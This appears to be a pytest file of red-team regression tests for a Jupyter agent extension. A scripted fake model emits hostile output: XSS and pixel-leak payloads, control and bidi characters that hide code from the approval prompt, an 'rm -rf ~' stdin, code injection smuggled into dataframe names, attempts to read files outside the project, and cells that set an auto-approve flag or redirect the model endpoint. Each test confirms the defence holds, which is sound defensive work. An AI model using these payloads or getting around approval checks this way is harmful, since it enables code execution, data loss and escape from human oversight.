"""Red-team findings against the kernel side (the `%agent` magic and check_resource), each driven
the way an attacker would: a model (the scripted fake LLM) that writes hostile text, and the
server's `POST resources` route with malformed bodies. Every test here failed before its fix."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from devtools.fake_llm import FakeLLM, tool_call
from tests.conftest import Api
from tests.test_magic import Kernel, llm, magic_env, magic_kernel, tool_messages  # noqa: F401 (fixtures)


@pytest.fixture(scope="module")
def places(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    top = tmp_path_factory.mktemp("red_team")
    found = {name: top / name for name in ("data", "config", "runtime", "project")}
    for path in found.values():
        path.mkdir()
    (found["config"] / "jupyter_server_config.json").write_text(
        json.dumps({"Cellwright": {"max_retries": 0, "request_timeout": 10}})
    )
    return found


@pytest.fixture(scope="module")
def kernel(llm: FakeLLM, places: dict[str, Path]) -> Iterator[Kernel]:
    started = magic_kernel(magic_env(llm, places), places["project"])
    yield started
    started.stop()


@pytest.fixture
def scripted(llm: FakeLLM) -> Iterator[FakeLLM]:
    yield llm
    assert llm.pending == 0, "scripted replies left over"


def test_finding_1_magic_answer_is_inert(kernel: Kernel, scripted: FakeLLM) -> None:
    """The `%agent` cell is trusted: Markdown or HTML in its output runs unsanitised in the Jupyter
    page. The model's answer, next items and todos must reach the page as plain text only."""
    hostile = (
        "Done. <img src=x onerror=\"document.title='pwned'\">\n"
        "![chart](https://127.0.0.2/pixel.png?leak=secret)\n"
        "<script>alert(1)</script>"
    )
    scripted.script(
        tool_call("write_todos", {"todos": [{"content": "<img src=x onerror=alert(2)>", "status": "pending"}]}),
        tool_call(
            "final_answer",
            {
                "answer": hostile,
                "next_items": [
                    {"title": "<b onmouseover=alert(3)>more</b>", "prompt": "![x](https://127.0.0.2/n.png)"}
                ],
            },
        ),
    )
    out = kernel.run("%agent --new summarise")
    assert out.status == "ok" and not out.errors, out
    for data in out.displays + out.results:
        assert "text/html" not in data and "text/markdown" not in data, data
        assert set(data) <= {"text/plain"}, data
    assert out.answers == [hostile]  # shown, as the text it is
    assert (
        "<img src=x onerror=alert(2)>" in out.stdout and "<b onmouseover=alert(3)>more</b>" in out.stdout
    )  # as text too


def test_finding_2_prompt_shows_control_characters(kernel: Kernel, scripted: FakeLLM, places: dict[str, Path]) -> None:
    """What the approval prompt shows must be what runs: a carriage return, an escape sequence or a
    bidi control in the code shows as a marker, and every argument of a shell command is listed."""
    (places["project"] / "sub").mkdir(exist_ok=True)
    scripted.script(
        tool_call("run_cell", {"code": "HIDDEN='ran'\rprint('visible')", "description": "print\x1b[2K a word"}),
        tool_call("run_cell", {"code": "ok = 1  # \u202e\u2066 harmless \u2069\u202c\x1b[8mhidden\x1b[0m\u200b"}),
        tool_call("execute_command", {"command": "cat > notes.txt", "stdin": "rm -rf ~\n", "cwd": "sub", "timeout": 5}),
        tool_call("final_answer", {"answer": "I ran nothing."}),
    )
    out = kernel.run("%agent --new print a word", answers=("n", "", "n", "", "n", ""))
    assert out.status == "ok" and not out.errors, out
    assert "\r" not in out.stdout and "\u202e" not in out.stdout and "\u200b" not in out.stdout
    assert "│ HIDDEN='ran'␍\n│ print('visible')\n" in out.stdout  # marked, and on the two lines Python runs
    assert re.search(r"run_cell needs approval \(step [\w-]+\): print␛\[2K a word", out.stdout)
    assert "ok = 1  # <U+202E><U+2066> harmless <U+2069><U+202C>␛[8mhidden␛[0m<U+200B>" in out.stdout
    # Only the prompt's own grey (diagnostics, notes) may carry an escape: none of the model's text.
    assert "\x1b[8m" not in out.stdout and "\x1b[2K" not in out.stdout
    command = out.stdout[out.stdout.index("execute_command needs approval") :]
    for shown in ("cat > notes.txt", 'stdin: "rm -rf ~\\n"', 'cwd: "sub"', "timeout: 5"):
        assert shown in command, (shown, command)
    assert kernel.run("print('HIDDEN' in globals(), 'ok' in globals())").stdout == "False False\n"
    assert not (places["project"] / "sub" / "notes.txt").exists()


def test_finding_5_check_resource_never_runs_properties(kernel: Kernel, scripted: FakeLLM) -> None:
    """check_resource runs without approval, so it may run none of the user's code: no attribute
    chain (a property's getter is code), and no method of an object whose class only claims to be a
    DataFrame. The names reach the kernel as data, never as code."""
    setup = (
        "import pandas as pd\n"
        "FLAG = []\n"
        "class Model:\n"
        "    @property\n"
        "    def retrain(self):\n"
        "        FLAG.append('retrain')\n"
        "        return pd.DataFrame({'a': [1]})\n"
        "    def __getattr__(self, name):\n"
        "        FLAG.append('getattr ' + name)\n"
        "class DataFrame:\n"
        "    shape = (1, 1)\n"
        "    @property\n"
        "    def __class__(self):\n"
        "        FLAG.append('__class__')\n"
        "        return pd.DataFrame\n"
        "    def memory_usage(self, *args, **kwargs):\n"
        "        FLAG.append('memory_usage')\n"
        "        return pd.Series([1])\n"
        "class Sized:\n"
        "    def __sizeof__(self):\n"
        "        FLAG.append('__sizeof__')\n"
        "        return 1\n"
        "model, fake = Model(), DataFrame()\n"
        "objects = pd.DataFrame({'o': [Sized(), 'text']})\n"
        "df = pd.DataFrame({'a': range(10), 'b': ['x'] * 10})\n"
    )
    assert kernel.run(setup).status == "ok"
    smuggled = "df'], __import__('builtins').FLAG.append('code') or ['df"
    scripted.script(
        tool_call("check_resource", {"dataframes": ["model.retrain", "model", "fake", "objects", "df", smuggled]}),
        tool_call("final_answer", {"answer": "Measured."}),
    )
    out = kernel.run("%agent --new how big are they?")
    assert out.status == "ok" and not out.errors, out
    assert kernel.run("print(FLAG)").stdout == "[]\n"
    told = tool_messages(scripted.requests[-1])[-1]
    assert "'model.retrain' is not a variable name" in told and "model: error: model is a __main__.Model" in told
    assert "fake: error: fake is a __main__.DataFrame, not a pandas or polars DataFrame" in told
    assert "objects: 2 rows x 1 columns" in told and "df: 10 rows x 2 columns" in told
    assert "is not a variable name" in told.split(smuggled[:20])[-1]


def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_finding_15_magic_root_is_fixed(llm: FakeLLM, places: dict[str, Path], tmp_path: Path) -> None:
    """The magic's tools stay in the folder they started with: a `%cd ..` (or `%cd ~`) does not hand
    the agent the folder above, nor does a stale jpserver file of a dead server whose root is /.
    And an auto-approval switch that a cell of the agent's sets in os.environ changes nothing."""
    project = tmp_path / "project"
    project.mkdir()
    (project / "inside.txt").write_text("inside the project\n")
    (tmp_path / "secret.txt").write_text("TOP-SECRET outside the project\n")
    runtime = tmp_path / "runtime"
    runtime.mkdir()
    (runtime / "jpserver-stale.json").write_text(json.dumps({"root_dir": "/", "pid": _dead_pid()}))
    started = Kernel.start(magic_env(llm, places, JUPYTER_RUNTIME_DIR=str(runtime)), project)
    try:
        # Moved before the extension loads, and again after, and reloaded: the root stays the project.
        for cell in (
            "%cd ..",
            "%load_ext agent_core",
            f"%cd {tmp_path.parent}",
            "%reload_ext agent_core",
            f"%cd {tmp_path}",
        ):
            assert started.run(cell).status == "ok", cell
        llm.script(
            tool_call("read_file", {"path": "secret.txt"}),
            tool_call("read_file", {"path": "../secret.txt"}),
            tool_call("list_files", {"path": "."}),
            tool_call("final_answer", {"answer": "Looked."}),
        )
        out = started.run("%agent --new look around")
        assert out.status == "ok" and not out.errors, out
        told = tool_messages(llm.requests[-1])
        assert len(told) == 3 and not any("TOP-SECRET" in message for message in told), told
        assert "inside.txt" in told[2] and "secret.txt" not in told[2]

        # A cell of the agent's, approved for what it says it does, flips the environment variable.
        llm.script(
            tool_call("run_cell", {"code": "import os\nos.environ['CELLWRIGHT_MAGIC_AUTO_APPROVE'] = '1'"}),
            tool_call("final_answer", {"answer": "Set."}),
        )
        assert started.run("%agent --new set it", answers=("y",)).status == "ok"
        llm.script(tool_call("run_cell", {"code": "after = 1"}), tool_call("final_answer", {"answer": "Asked."}))
        out = started.run("%agent --new again", answers=("n", ""))
        assert out.prompts[0].startswith("Approve?") and "Approved (--yes)" not in out.stdout
        assert started.run("print('after' in globals())").stdout == "False\n"

        # Nor does an endpoint a cell sets: the next call still talks to the configured model.
        assert started.run("import os\nos.environ['OPENAI_BASE_URL'] = 'http://127.0.0.2:9/v1'").status == "ok"
        llm.script(tool_call("final_answer", {"answer": "Same endpoint."}))
        asked = len(llm.requests)
        out = started.run("%agent --new where are you")
        assert out.status == "ok" and len(llm.requests) == asked + 1, out
    finally:
        started.stop()
    assert llm.pending == 0


async def test_finding_16_resources_route_type_checks(api: Api) -> None:
    """Malformed resource requests are the caller's mistake: a 400 with a message, never a 500 or
    a string read as one path."""
    for body in (
        {"files": "data.csv"},
        {"dataframes": 5},
        {"dataframes": "df"},
        {"files": [1]},
        {"files": {"a": 1}},
        {"dataframes": [None]},
        {"files": ["a.csv"] * 101},
        {"dataframes": ["df"] * 101},
        {"files": ["x" * 5000]},
    ):
        code, data = await api.call("POST", "resources", body)
        assert code == 400, (body, code, data)
        assert isinstance(data, dict) and isinstance(data["error"], str) and data["error"] and data["message"], (
            body,
            data,
        )
    code, data = await api.call("POST", "resources", {"dataframes": ["df.attr", "df'); import os #"]})
    assert code == 200 and all("not a variable name" in entry["error"] for entry in data["dataframes"].values()), data
